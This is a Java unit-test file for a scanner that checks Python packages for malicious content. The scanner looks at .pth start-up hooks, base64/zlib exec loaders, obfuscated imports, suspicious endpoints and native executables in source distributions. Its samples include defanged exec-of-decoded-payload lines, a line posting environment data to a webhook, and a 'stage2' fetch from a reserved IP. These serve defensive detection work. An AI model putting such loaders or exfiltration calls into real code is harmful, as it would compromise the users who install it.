package dev.sluice.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Each content rule on the pattern it looks for (harmless payloads: reserved addresses, example domains, code that
 * would only print) and on its clean twin, which must pass.
 */
class ContentRulesTest {
    private static List<Finding> inspect(ContentRule rule, String file, String text, boolean sdist) {
        return inspect(rule, file, text.getBytes(StandardCharsets.UTF_8), sdist);
    }

    private static List<Finding> inspect(ContentRule rule, String file, byte[] bytes, boolean sdist) {
        List<Finding> found = new ArrayList<>();
        rule.inspect(new InspectedFile(file, bytes, sdist), found::add);
        return found;
    }

    @Test
    void pthImportLines() {
        PthImportLine rule = new PthImportLine();
        assertThat(inspect(rule, "zz_hook.pth", "# a comment\nimport sys; print('hello from a start-up hook')\n", false))
                .singleElement().satisfies(f -> {
                    assertThat(f.rule()).isEqualTo("pth-import");
                    assertThat(f.severity()).isEqualTo(Finding.Severity.SUSPICIOUS);
                    assertThat(f.line()).isEqualTo(2);
                    assertThat(f.excerpt()).startsWith("import sys;");
                });
        assertThat(inspect(rule, "zz_hook.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n", false))
                .singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS));
        assertThat(inspect(rule, "demo-1.0.data/purelib/zz.pth", "import os\n", false)).hasSize(1);
        // the clean twins: paths only, the legitimate hooks by their content, and .pth files that do not land in site-packages
        assertThat(inspect(rule, "demo.pth", "./src\n../lib\n", false)).isEmpty();
        assertThat(inspect(rule, "distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled ="
                + " os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n", false)).isEmpty();
        assertThat(inspect(rule, "__editable__.demo-1.0.pth", "import __editable___demo_1_0_finder;"
                + " __editable___demo_1_0_finder.install()\n", false)).isEmpty();
        assertThat(inspect(rule, "coverage.pth", "import coverage; coverage.process_startup()\n", false)).isEmpty();
        assertThat(inspect(rule, "demo/data/zz.pth", "import os\n", false)).isEmpty();
    }

    @Test
    void encodedExecution() {
        EncodedExecution rule = new EncodedExecution();
        assertThat(inspect(rule, "demo/__init__.py", "import base64\nexec(base64.b64decode(b'cHJpbnQoImhhcm1sZXNzIik='))\n", false))
                .singleElement().satisfies(f -> {
                    assertThat(f.severity()).isEqualTo(Finding.Severity.MALICIOUS);
                    assertThat(f.line()).isEqualTo(2);
                });
        assertThat(inspect(rule, "setup.py", "eval(compile(zlib.decompress(PAYLOAD), '<x>', 'exec'))\n", true)).hasSize(1);
        assertThat(inspect(rule, "demo/x.py", "m = __import__(''.join(['o', 's']))\n", false)).singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Finding.Severity.SUSPICIOUS));
        assertThat(inspect(rule, "demo/x.py", "m = __import__('so'[::-1])\nn = __import__(chr(111) + chr(115))\n", false)).hasSize(2);
        StringBuilder packed = new StringBuilder("blob = '");
        java.util.Random random = new java.util.Random(7);
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        for (int i = 0; i < 6_000; i++) {
            packed.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        assertThat(inspect(rule, "demo/blob.py", packed.append("'\n").toString(), false)).singleElement()
                .satisfies(f -> assertThat(f.excerpt()).startsWith("a 6009-character line holding packed data"));
        // the clean twins
        assertThat(inspect(rule, "demo/ok.py", "data = base64.b64decode(text)\nexec(code, namespace)\n", false)).isEmpty();
        assertThat(inspect(rule, "demo/ok.py", "# exec(base64.b64decode(x)) is what attackers write\n", false)).isEmpty();
        assertThat(inspect(rule, "demo/ok.py", "mod = __import__('json')\nsub = __import__(\"os.path\", fromlist=['x'])\n"
                + "plugin = __import__(module_name, fromlist=['create'])\n", false)).isEmpty();
        assertThat(inspect(rule, "demo/ok.py", "long = '" + "a".repeat(6_000) + "'\n", false)).as("long, but not packed").isEmpty();
        assertThat(inspect(rule, "README.txt", "exec(base64.b64decode(x))\n", false)).as("not code").isEmpty();
    }

    @Test
    void shadyEndpoints() {
        ShadyEndpoint rule = new ShadyEndpoint();
        for (String line : List.of("URL = 'https://discord.com/api/webhooks/000/example'",
                "requests.post('https://hooks.slack.com/services/T000/B000/example', data=env)",
                "urlopen('http://192.0.2.1:8080/stage2')", "u = 'https://bit.ly/example'",
                "host = 'example.ngrok-free.app'", "get('https://pastebin.com/raw/example')")) {
            assertThat(inspect(rule, "demo/x.py", line + "\n", false)).as(line).singleElement()
                    .satisfies(f -> assertThat(f.rule()).isEqualTo("shady-endpoint"));
        }
        for (String line : List.of("url = 'http://127.0.0.1:8080/'", "proxy = 'http://10.0.0.1:3128'",
                "api = 'https://api.example.com/v1'", "docs = 'https://docs.python.org/3/'", "version = '1.2.3.4'",
                "# see http://bit.ly/example for details", "warn('see http://bit.ly/example for details')",
                "def f():\n    \"\"\"Example:\n\n    >>> s.get('https://93.184.216.34')\n    \"\"\"")) {
            assertThat(inspect(rule, "demo/x.py", line + "\n", false)).as(line).isEmpty();
        }
    }

    @Test
    void nativeExecutablesInSourceDistributions() {
        NativeExecutable rule = new NativeExecutable();
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        byte[] pe = new byte[128];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[60] = 64;
        pe[64] = 'P';
        pe[65] = 'E';
        byte[] machO = {(byte) 0xcf, (byte) 0xfa, (byte) 0xed, (byte) 0xfe, 7, 0, 0, 1};
        assertThat(inspect(rule, "demo-1.0/bin/helper", elf, true)).singleElement()
                .satisfies(f -> assertThat(f.excerpt()).isEqualTo("a ELF executable in a source distribution"));
        assertThat(inspect(rule, "demo-1.0/helper.exe", pe, true)).hasSize(1);
        assertThat(inspect(rule, "demo-1.0/helper", machO, true)).hasSize(1);
        // the clean twins: the same bytes in a wheel, and text that starts like one
        assertThat(inspect(rule, "demo/_speedups.so", elf, false)).isEmpty();
        assertThat(inspect(rule, "demo-1.0/MZ.txt", "MZ is a text file here", true)).isEmpty();
    }
}
